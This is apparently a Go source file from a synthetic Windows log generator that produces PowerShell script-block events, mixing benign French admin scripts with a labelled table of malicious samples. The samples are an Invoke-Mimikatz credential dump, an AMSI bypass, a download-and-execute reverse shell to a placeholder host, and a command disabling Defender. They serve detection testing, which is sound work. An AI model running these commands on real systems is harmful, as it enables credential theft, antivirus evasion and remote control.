package winmix

import "strings"

// PowerShell script block logging (4104). Most blocks in a real log are
// tiny: the host's prompt function, formatting helpers and commands typed
// at the console; the rest are the estate's own admin scripts and modules,
// a few hundred bytes to a few KB each. Script files are logged with their
// path and CRLF line ends.

type scriptT struct {
	w     int
	on    roles
	path  string // "" for interactive blocks
	text  string
	label string
}

var scripts = append([]scriptT{
	{w: 20, text: "prompt"},
	{w: 12, text: "\"PS $($executionContext.SessionState.Path.CurrentLocation)$('>' * ($nestedPromptLevel + 1)) \";\n# .Link\n# https://go.microsoft.com/fwlink/?LinkID=225750\n# .ExternalHelp System.Management.Automation.dll-help.xml\n"},
	{w: 12, text: "{ Set-StrictMode -Version 1; $_.«|PSMessageDetails|ErrorCategory_Message|OriginInfo» }"},
	{w: 4, text: "{ Set-StrictMode -Version 1; $this.Exception.InnerException.PSMessageDetails }"},
	{w: 4, text: "$global:?"},
	{w: 12, on: rSrv, path: `C:\Scripts\Nettoyage-Temp.ps1`, text: scriptCleanup},
	{w: 8, on: rFS, path: `C:\Scripts\Rapport-Quotas.ps1`, text: scriptQuotas},
	{w: 8, on: rDC, path: `C:\Scripts\Export-ADUsers.ps1`, text: scriptADExport},
	{w: 8, on: rSrv, path: `C:\Scripts\Verif-Services.ps1`, text: scriptServices},
	{w: 8, on: rWeb, path: `C:\Scripts\Rotation-Logs.ps1`, text: scriptIISLogs},
	{w: 4, on: rDC, path: `C:\Scripts\Comptes-Inactifs.ps1`, text: scriptInactive},
	{w: 4, on: rDC, path: `C:\Scripts\Sauvegarde-GPO.ps1`, text: scriptGPO},
	{w: 6, on: rSrv, path: `C:\Scripts\Check-Certificats.ps1`, text: scriptCerts},
	{w: 10, path: `\\«dns»\NETLOGON\Inventaire.ps1`, text: scriptInventory},
	{w: 4, on: rWS, path: `\\«dns»\NETLOGON\Connexion-Lecteurs.ps1`, text: scriptDrives},
	{w: 6, path: `C:\Program Files\WindowsPowerShell\Modules\OutilsDSI\1.4.0\OutilsDSI.psm1`, text: scriptModule},
}, append(typed(rWS,
	"Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
	"ipconfig /all",
	"Test-NetConnection «fs» -Port 445",
	"Get-Printer | Where-Object Name -like '*«|Copieur|MFP|Accueil»*'",
	"Get-ChildItem C:\\Users\\«u»\\Downloads | Sort-Object LastWriteTime -Descending",
	"cd C:\\Users\\«u»\\Documents",
	"Get-NetIPConfiguration",
	"Clear-Host",
	"ls",
	"Get-Volume",
	"Get-ChildItem \\\\«fs»\\«share» | Measure-Object",
	"Get-Date -Format yyyy-MM-dd",
	"Get-Help Get-ChildItem -Examples",
), typed(rSrv,
	"Get-Service -Name «|wuauserv|Spooler|W3SVC|WinDefend|DFSR|NTDS|DNS»",
	"Restart-Service Spooler -Force",
	"Get-ADUser «u» -Properties LastLogonDate, PasswordLastSet, LockedOut",
	"Unlock-ADAccount -Identity «u»",
	"Search-ADAccount -LockedOut | Select-Object Name, SamAccountName, LastLogonDate",
	"Get-SmbShare",
	"Get-SmbSession | Measure-Object",
	"Get-EventLog -LogName System -Newest 50 -EntryType Error",
	"Import-Module ActiveDirectory",
	"Get-ADGroupMember «|GG_Urbanisme|GG_Finances|GG_RH|GG_DSI» | Select-Object Name",
	"Get-DfsrBacklog -GroupName \"Domain System Volume\" -FolderName \"SYSVOL Share\" -SourceComputerName «dc» -DestinationComputerName «dc»",
	"repadmin /replsummary",
	"Get-WebAppPoolState -Name «pool»",
	"Get-ChildItem C:\\inetpub\\logs\\LogFiles\\W3SVC1 | Select-Object -Last 5",
	"Get-PSDrive -PSProvider FileSystem",
	"Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
)...)...)

// typed makes one interactive block per command typed at the console.
func typed(on roles, cmds ...string) []scriptT {
	ts := make([]scriptT, len(cmds))
	for i, c := range cmds {
		ts[i] = scriptT{w: 1, on: on, text: c}
	}
	return ts
}

var malScripts = []scriptT{
	// Potential Invoke-Mimikatz PowerShell Script / Malicious PowerShell Commandlets
	{w: 2, text: "Invoke-Mimikatz -DumpCreds -ComputerName «dc»", label: "ps_invoke_mimikatz"},
	// Potential AMSI Bypass Script Using NULL Bits / AMSI bypass pattern
	{w: 1, text: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", label: "ps_amsi_bypass"},
	// Suspicious PowerShell Download and Execute Pattern
	{w: 2, text: "IEX (New-Object Net.WebClient).DownloadString('http://«badip»/Invoke-PowerShellTcp.ps1'); Invoke-PowerShellTcp -Reverse -IPAddress «badip» -Port 4444", label: "ps_download_iex"},
	// Disable Windows Defender AV via PowerShell / Tamper Windows Defender
	{w: 1, text: "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true", label: "ps_defender_tamper"},
}

var scriptTable, malScriptTable = func() (*byRole[scriptT], table[*scriptT]) {
	for i := range scripts {
		if scripts[i].path != "" {
			scripts[i].text = strings.ReplaceAll(scripts[i].text, "\n", "\r\n")
		}
	}
	br := newByRole(scripts, func(s *scriptT) int { return s.w }, func(s *scriptT) roles { return s.on })
	var mt table[*scriptT]
	for i := range malScripts {
		mt.add(&malScripts[i], malScripts[i].w)
	}
	return br, mt
}()

func (g *Generator) scriptBlock(mal bool) {
	var t *scriptT
	var h *host
	if mal {
		t = malScriptTable.pick(g.r)
		h = g.hostWith(t.on)
	} else {
		h = g.pickHost()
		t = scriptTable.pick(g.r, h.role)
	}
	g.lastMal = t.label
	p := g.proc(h, "powershell")
	c := &ctx{g: g, h: h, a: p.acct}
	text := c.expand(t.text)
	path := c.expand(t.path)
	// PowerShell logs blocks it deems suspicious at Warning level even
	// without script block logging enabled.
	level := 5
	if mal {
		level = 3
	}
	g.begin(PowerShellScript, h, p.pid, g.randPID(), p.acct.sid, level)
	w := &g.w
	w.num("MessageNumber", 1)
	w.num("MessageTotal", 1)
	w.str("ScriptBlockText", text)
	w.str("ScriptBlockId", g.guidString(false))
	w.str("Path", path)
	g.end()
}

const scriptCleanup = `<#
    Nettoyage des fichiers temporaires et des profils de service
    Planifie tous les jours a 02h30 (tache "DSI - Nettoyage")
    Auteur : DSI «org»
#>
param(
    [int]$JoursRetention = 14,
    [string]$Journal = "C:\Scripts\Logs\Nettoyage-Temp_$(Get-Date -Format yyyyMMdd).log"
)

$dossiers = @(
    "$env:windir\Temp",
    "$env:windir\Logs\CBS",
    "C:\inetpub\temp\IIS Temporary Compressed Files",
    "$env:windir\ServiceProfiles\LocalService\AppData\Local\Temp"
)

function Write-Journal([string]$Message) {
    $ligne = "{0:yyyy-MM-dd HH:mm:ss} {1}" -f (Get-Date), $Message
    Add-Content -Path $Journal -Value $ligne
}

Write-Journal "Debut du nettoyage sur $env:COMPUTERNAME (retention $JoursRetention jours)"
$limite = (Get-Date).AddDays(-$JoursRetention)
$total = 0
foreach ($dossier in $dossiers) {
    if (-not (Test-Path $dossier)) { continue }
    $fichiers = Get-ChildItem -Path $dossier -Recurse -File -ErrorAction SilentlyContinue |
        Where-Object { $_.LastWriteTime -lt $limite }
    $taille = ($fichiers | Measure-Object -Property Length -Sum).Sum
    $fichiers | Remove-Item -Force -ErrorAction SilentlyContinue
    $total += $taille
    Write-Journal ("{0} : {1} fichiers, {2:N1} Mo" -f $dossier, $fichiers.Count, ($taille / 1MB))
}
Write-Journal ("Fin du nettoyage, {0:N1} Mo liberes" -f ($total / 1MB))
`

const scriptQuotas = `#Requires -Modules FileServerResourceManager
# Rapport hebdomadaire des quotas des partages
$seuil = 85
$destinataires = "dsi@«dns»", "support@«dns»"
$rapport = foreach ($quota in Get-FsrmQuota) {
    $pourcentage = [math]::Round(($quota.Usage / $quota.Size) * 100, 1)
    [pscustomobject]@{
        Dossier     = $quota.Path
        LimiteGo    = [math]::Round($quota.Size / 1GB, 1)
        UtiliseGo   = [math]::Round($quota.Usage / 1GB, 1)
        Pourcentage = $pourcentage
        Alerte      = $pourcentage -ge $seuil
    }
}
$csv = "\\«fs»\Rapports$\Quotas\quotas_$(Get-Date -Format yyyy-MM-dd).csv"
$rapport | Sort-Object Pourcentage -Descending | Export-Csv -Path $csv -NoTypeInformation -Encoding UTF8 -Delimiter ';'
$alertes = $rapport | Where-Object Alerte
if ($alertes) {
    $corps = $alertes | ConvertTo-Html -Property Dossier, LimiteGo, UtiliseGo, Pourcentage -Title "Quotas" | Out-String
    Send-MailMessage -SmtpServer "smtp.«dns»" -From "«host»@«dns»" -To $destinataires -Subject "[«host»] $($alertes.Count) quota(s) au-dela de $seuil %" -Body $corps -BodyAsHtml -Encoding UTF8
}
`

const scriptADExport = `Import-Module ActiveDirectory
# Export mensuel des comptes pour le service RH (rapprochement des effectifs)
$base = "OU=Utilisateurs,OU=«dom»,DC=«dns»" -replace '\.', ',DC='
$proprietes = 'DisplayName', 'Department', 'Title', 'Manager', 'LastLogonDate', 'PasswordLastSet', 'Enabled', 'whenCreated'
$utilisateurs = Get-ADUser -Filter * -SearchBase $base -Properties $proprietes |
    Select-Object SamAccountName, DisplayName, Department, Title,
        @{ Name = 'Responsable'; Expression = { (Get-ADUser $_.Manager -ErrorAction SilentlyContinue).Name } },
        LastLogonDate, PasswordLastSet, Enabled, whenCreated
$fichier = "\\«fs»\RH$\Exports\comptes_AD_$(Get-Date -Format yyyy-MM).csv"
$utilisateurs | Export-Csv -Path $fichier -NoTypeInformation -Encoding UTF8 -Delimiter ';'
Write-Output ("{0} comptes exportes vers {1}" -f $utilisateurs.Count, $fichier)
`

const scriptServices = `# Verification des services critiques ; redemarrage et trace dans le journal Application
$services = @{
    'Spooler'  = 'Impression'
    'W32Time'  = 'Heure'
    'WinDefend' = 'Antivirus'
    'LanmanServer' = 'Partages'
    'DFSR' = 'Replication'
}
if (-not [System.Diagnostics.EventLog]::SourceExists('DSI-Supervision')) {
    New-EventLog -LogName Application -Source 'DSI-Supervision'
}
foreach ($nom in $services.Keys) {
    $svc = Get-Service -Name $nom -ErrorAction SilentlyContinue
    if ($null -eq $svc) { continue }
    if ($svc.Status -ne 'Running' -and $svc.StartType -eq 'Automatic') {
        try {
            Start-Service -Name $nom -ErrorAction Stop
            Write-EventLog -LogName Application -Source 'DSI-Supervision' -EventId 1001 -EntryType Warning -Message "Service $nom ($($services[$nom])) redemarre sur $env:COMPUTERNAME"
        } catch {
            Write-EventLog -LogName Application -Source 'DSI-Supervision' -EventId 1002 -EntryType Error -Message "Echec du redemarrage de $nom : $($_.Exception.Message)"
        }
    }
}
`

const scriptIISLogs = `# Compression et purge des journaux IIS (conservation 90 jours, archive 1 an)
$racine = 'C:\inetpub\logs\LogFiles'
$archive = '\\«fs»\Archives$\IIS\«host»'
$maintenant = Get-Date
Get-ChildItem -Path $racine -Filter 'u_ex*.log' -Recurse | Where-Object {
    $_.LastWriteTime -lt $maintenant.AddDays(-7)
} | ForEach-Object {
    $zip = Join-Path $archive ("{0}_{1}.zip" -f $_.Directory.Name, $_.BaseName)
    if (-not (Test-Path $zip)) {
        Compress-Archive -Path $_.FullName -DestinationPath $zip -CompressionLevel Optimal
    }
    if ($_.LastWriteTime -lt $maintenant.AddDays(-90)) {
        Remove-Item $_.FullName -Force
    }
}
Get-ChildItem -Path $archive -Filter *.zip | Where-Object { $_.LastWriteTime -lt $maintenant.AddYears(-1) } | Remove-Item -Force
`

const scriptInactive = `Import-Module ActiveDirectory
# Comptes sans connexion depuis 90 jours : rapport pour validation par les responsables de service
$inactifs = Search-ADAccount -AccountInactive -TimeSpan 90.00:00:00 -UsersOnly |
    Where-Object { $_.Enabled -and $_.DistinguishedName -notlike '*OU=Comptes de service*' } |
    Get-ADUser -Properties Department, LastLogonDate, Description |
    Select-Object SamAccountName, Name, Department, LastLogonDate, Description
$inactifs | Export-Csv "\\«fs»\Rapports$\AD\inactifs_$(Get-Date -Format yyyy-MM-dd).csv" -NoTypeInformation -Encoding UTF8 -Delimiter ';'
"$($inactifs.Count) comptes inactifs"
`

const scriptGPO = `Import-Module GroupPolicy
$cible = "\\«fs»\Sauvegarde$\GPO\$(Get-Date -Format yyyy-MM-dd)"
New-Item -ItemType Directory -Path $cible -Force | Out-Null
Backup-GPO -All -Path $cible -Comment "Sauvegarde hebdomadaire" | Select-Object DisplayName, Id, BackupDirectory |
    Export-Csv (Join-Path $cible 'index.csv') -NoTypeInformation -Encoding UTF8
Get-GPOReport -All -ReportType Html -Path (Join-Path $cible 'rapport.html')
Get-ChildItem (Split-Path $cible) -Directory | Sort-Object Name -Descending | Select-Object -Skip 12 | Remove-Item -Recurse -Force
`

const scriptCerts = `# Certificats machine expirant dans les 30 jours
$limite = (Get-Date).AddDays(30)
$proches = Get-ChildItem Cert:\LocalMachine\My | Where-Object { $_.NotAfter -lt $limite } |
    Select-Object Subject, Thumbprint, NotAfter, @{ n = 'Jours'; e = { ($_.NotAfter - (Get-Date)).Days } }
if ($proches) {
    $proches | Format-Table -AutoSize | Out-String | Write-Warning
    $proches | Export-Csv "C:\Scripts\Logs\certificats_$(Get-Date -Format yyyyMMdd).csv" -NoTypeInformation
}
`

const scriptInventory = `# Inventaire du poste, lance a l'ouverture de session par GPO
$ErrorActionPreference = 'SilentlyContinue'
$os = Get-CimInstance Win32_OperatingSystem
$cs = Get-CimInstance Win32_ComputerSystem
$bios = Get-CimInstance Win32_BIOS
$disques = Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3' | ForEach-Object {
    @{ Lecteur = $_.DeviceID; TailleGo = [math]::Round($_.Size / 1GB); LibreGo = [math]::Round($_.FreeSpace / 1GB) }
}
$logiciels = Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\*', 'HKLM:\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall\*' |
    Where-Object DisplayName | Select-Object DisplayName, DisplayVersion, Publisher
$inventaire = [ordered]@{
    Poste        = $env:COMPUTERNAME
    Utilisateur  = [Environment]::UserName
    Date         = (Get-Date).ToString('s')
    Systeme      = $os.Caption
    Version      = $os.Version
    Modele       = "$($cs.Manufacturer) $($cs.Model)"
    NumeroSerie  = $bios.SerialNumber
    MemoireGo    = [math]::Round($cs.TotalPhysicalMemory / 1GB)
    Disques      = $disques
    Logiciels    = $logiciels
}
$inventaire | ConvertTo-Json -Depth 4 | Set-Content -Path "\\«fs»\Inventaire$\$env:COMPUTERNAME.json" -Encoding UTF8
`

const scriptDrives = `# Connexion des lecteurs reseau et des imprimantes selon les groupes de l'agent
$ErrorActionPreference = 'SilentlyContinue'
$serveur = '«fs»'
$groupes = ([Security.Principal.WindowsIdentity]::GetCurrent()).Groups | ForEach-Object {
    try { $_.Translate([Security.Principal.NTAccount]).Value.Split('\')[-1] } catch { }
}
$lecteurs = @(
    @{ Lettre = 'S'; Partage = "\\$serveur\Services";   Groupe = 'Domain Users' }
    @{ Lettre = 'T'; Partage = "\\$serveur\Commun";     Groupe = 'Domain Users' }
    @{ Lettre = 'F'; Partage = "\\$serveur\Finances";   Groupe = 'GG_Finances' }
    @{ Lettre = 'U'; Partage = "\\$serveur\Urbanisme";  Groupe = 'GG_Urbanisme' }
    @{ Lettre = 'R'; Partage = "\\$serveur\RH$";        Groupe = 'GG_RH' }
)
foreach ($l in $lecteurs) {
    if ($groupes -contains $l.Groupe -or $l.Groupe -eq 'Domain Users') {
        if (Get-PSDrive -Name $l.Lettre -ErrorAction SilentlyContinue) { Remove-PSDrive -Name $l.Lettre -Force }
        New-PSDrive -Name $l.Lettre -PSProvider FileSystem -Root $l.Partage -Persist -Scope Global | Out-Null
    }
}
$imprimante = "\\$serveur\Copieur-$($env:COMPUTERNAME.Split('-')[1])"
if (-not (Get-Printer -Name $imprimante -ErrorAction SilentlyContinue)) {
    Add-Printer -ConnectionName $imprimante
}
`

const scriptModule = `function Get-EspaceDisque {
<#
.SYNOPSIS
    Espace disque des serveurs de la collectivite.
.DESCRIPTION
    Interroge les volumes fixes des serveurs indiques
    (par defaut ceux de serveurs.txt) et retourne ceux dont l'espace libre passe sous le seuil.
.PARAMETER ComputerName
    Serveurs a interroger.
.PARAMETER Seuil
    Pourcentage d'espace libre en dessous duquel un volume est signale.
.EXAMPLE
    Get-EspaceDisque -Seuil 10 | Format-Table
#>
    [CmdletBinding()]
    param(
        [Parameter(ValueFromPipeline)]
        [string[]]$ComputerName = (Get-Content -Path "$PSScriptRoot\serveurs.txt"),
        [ValidateRange(1, 99)]
        [int]$Seuil = 15
    )
    process {
        foreach ($serveur in $ComputerName) {
            try {
                $volumes = Get-CimInstance -ClassName Win32_LogicalDisk -Filter 'DriveType=3' -ComputerName $serveur -ErrorAction Stop
            } catch {
                Write-Warning "$serveur injoignable : $($_.Exception.Message)"
                continue
            }
            foreach ($v in $volumes) {
                $libre = [math]::Round(100 * $v.FreeSpace / $v.Size, 1)
                if ($libre -lt $Seuil) {
                    [pscustomobject]@{
                        Serveur  = $serveur
                        Lecteur  = $v.DeviceID
                        TailleGo = [math]::Round($v.Size / 1GB, 1)
                        LibreGo  = [math]::Round($v.FreeSpace / 1GB, 1)
                        LibrePct = $libre
                    }
                }
            }
        }
    }
}

function Reset-MotDePasseAgent {
<#
.SYNOPSIS
    Reinitialise le mot de passe d'un agent et force le changement a la prochaine connexion.
#>
    [CmdletBinding(SupportsShouldProcess)]
    param(
        [Parameter(Mandatory)]
        [string]$Identite
    )
    $compte = Get-ADUser -Identity $Identite -Properties LockedOut, Enabled
    if (-not $compte.Enabled) { throw "Le compte $Identite est desactive." }
    $temporaire = Read-Host -AsSecureString "Mot de passe temporaire pour $Identite"
    if ($PSCmdlet.ShouldProcess($Identite, 'Reinitialiser le mot de passe')) {
        Set-ADAccountPassword -Identity $Identite -NewPassword $temporaire -Reset
        Set-ADUser -Identity $Identite -ChangePasswordAtLogon $true
        if ($compte.LockedOut) { Unlock-ADAccount -Identity $Identite }
        Write-Verbose "Mot de passe de $Identite reinitialise"
    }
}

Export-ModuleMember -Function Get-EspaceDisque, Reset-MotDePasseAgent
`
